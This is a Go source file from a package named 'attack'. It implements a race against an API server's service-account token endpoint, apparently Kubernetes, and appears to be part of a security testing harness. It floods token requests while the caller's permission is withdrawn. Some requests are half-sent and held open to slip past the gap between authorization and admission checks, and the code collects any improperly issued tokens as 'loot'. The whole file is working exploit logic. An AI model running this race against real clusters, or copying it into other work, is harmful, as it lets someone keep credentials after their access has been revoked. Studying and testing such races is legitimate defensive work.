package attack

import (
	"context"
	"math/rand/v2"
	"slices"
	"sync"
	"sync/atomic"
	"time"
)

// Race is a flood of token requests that goes on while the right to send them is withdrawn.
//
// The API server asks its authorizers about a request when the headers are there, and admission when the body is. So there are two
// forms: whole requests, one after the other on connections that are kept, which meet a withdrawal now and then; and requests of
// which the headers and one byte are sent, and the rest a while later, which meet it nearly always.
type Race struct {
	// Namespace and Account are whose tokens are asked for.
	Namespace string `json:"namespace"`
	Account   string `json:"account"`
	// Grant is what the caller may have.
	Grant Grant `json:"grant"`
	// Requests are sent in turn.
	Requests []RaceRequest `json:"requests"`

	// Whole and Half are the connections for each form.
	Whole int `json:"whole"`
	Half  int `json:"half"`
	// Pause between two requests of a connection for whole ones.
	Pause time.Duration `json:"pause"`
	// HeldMin and HeldMax are how long half a request waits for its other half: any time between the two.
	HeldMin time.Duration `json:"heldMin"`
	HeldMax time.Duration `json:"heldMax"`

	// Time and Count end the race, unless the caller does before.
	Time  time.Duration `json:"time"`
	Count int64         `json:"count"`
}

// RaceRequest is one of the requests of a race.
type RaceRequest struct {
	Name string `json:"name"`
	Spec Spec   `json:"spec"`
}

// Counts are numbers of requests, by their names and their outcomes.
type Counts map[string]map[string]int

// Sum of some outcomes over all requests; of all outcomes without any.
func (c Counts) Sum(outcomes ...string) int {
	sum := 0
	for _, ofOne := range c {
		for outcome, n := range ofOne {
			if len(outcomes) == 0 || slices.Contains(outcomes, outcome) {
				sum += n
			}
		}
	}
	return sum
}

// ByOutcome adds up all requests.
func (c Counts) ByOutcome() map[string]int {
	all := map[string]int{}
	for _, ofOne := range c {
		for outcome, n := range ofOne {
			all[outcome] += n
		}
	}
	return all
}

// Add adds other counts.
func (c Counts) Add(other Counts) {
	for name, ofOne := range other {
		if c[name] == nil {
			c[name] = map[string]int{}
		}
		for outcome, n := range ofOne {
			c[name][outcome] += n
		}
	}
}

// Result is how a race ended.
type Result struct {
	Whole Counts `json:"whole"`
	Half  Counts `json:"half"`
	// Loot are some of the tokens that must not be.
	Loot []Token `json:"loot,omitempty"`
}

// All adds up both forms.
func (r Result) All() Counts {
	all := Counts{}
	all.Add(r.Whole)
	all.Add(r.Half)
	return all
}

// Add adds another result.
func (r *Result) Add(other Result) {
	if r.Whole == nil {
		r.Whole, r.Half = Counts{}, Counts{}
	}
	r.Whole.Add(other.Whole)
	r.Half.Add(other.Half)
	r.Loot = append(r.Loot, other.Loot...)
	r.Loot = r.Loot[:min(len(r.Loot), lootLimit)]
}

const lootLimit = 5

// Run runs the race until it ends or ctx does. Half requests that are open then are finished: they count too. It calls running when
// every connection is there, and each half request has been begun.
func (r Race) Run(ctx context.Context, caller *Caller, running func()) (Result, error) {
	ctx, cancel := context.WithTimeout(ctx, r.Time)
	defer cancel()
	race := &course{Race: r, caller: caller, left: atomic.Int64{}, result: Result{Whole: Counts{}, Half: Counts{}}}
	race.left.Store(r.Count)
	bodies := make([][]byte, len(r.Requests))
	for i, request := range r.Requests {
		bodies[i] = encode(request.Spec)
	}
	race.bodies = bodies

	var begun, ended sync.WaitGroup
	failures := make(chan error, r.Whole+r.Half)
	for i := range r.Whole + r.Half {
		begun.Add(1)
		ended.Go(func() {
			if err := race.connection(ctx, i, sync.OnceFunc(begun.Done)); err != nil {
				failures <- err
				cancel()
			}
		})
	}
	begun.Wait()
	running()
	ended.Wait()
	select {
	case err := <-failures:
		return Result{}, err
	default:
		return race.result, nil
	}
}

// course is a race on its way.
type course struct {
	Race
	caller *Caller
	bodies [][]byte
	left   atomic.Int64

	mu     sync.Mutex
	result Result
}

// connection sends one request after the other. begun is called at the first one.
func (r *course) connection(ctx context.Context, i int, begun func()) error {
	defer begun()
	half := i >= r.Whole
	var x *connection
	defer func() {
		if x != nil {
			x.close()
		}
	}()
	for turn := i; ctx.Err() == nil && r.left.Add(-1) >= 0; turn++ {
		if x == nil {
			var err error
			if x, err = r.caller.dial(context.WithoutCancel(ctx)); err != nil {
				return err
			}
		}
		which := turn % len(r.Requests)
		body := r.bodies[which]
		head := r.caller.head(Request{Path: tokenPath(r.Namespace, r.Account), Header: []string{contentJSON}, Body: body})
		first, rest := len(body), r.Pause
		if half {
			first, rest = 1, r.HeldMin+rand.N(r.HeldMax-r.HeldMin+1) //nolint:gosec // no secret
		}
		sent := x.send(head, body[:first])
		begun()
		if half {
			wait(ctx, rest)
			if sent == nil {
				sent = x.send(body[first:])
			}
		}
		var answer Answer
		again := false
		if sent == nil {
			answer, _, again, sent = x.answer()
		}
		r.note(half, r.Requests[which].Name, answer, sent)
		if !again {
			x.close()
			x = nil
		}
		if !half {
			wait(ctx, rest)
		}
	}
	return nil
}

func (r *course) note(half bool, name string, answer Answer, err error) {
	outcome := NoAnswer
	if err == nil {
		outcome = r.Grant.Outcome(answer)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	counts := r.result.Whole
	if half {
		counts = r.result.Half
	}
	if counts[name] == nil {
		counts[name] = map[string]int{}
	}
	counts[name][outcome]++
	if slices.Contains(Violations, outcome) && len(r.result.Loot) < lootLimit {
		r.result.Loot = append(r.result.Loot, *answer.Token)
	}
}

func wait(ctx context.Context, d time.Duration) {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
	case <-timer.C:
	}
}
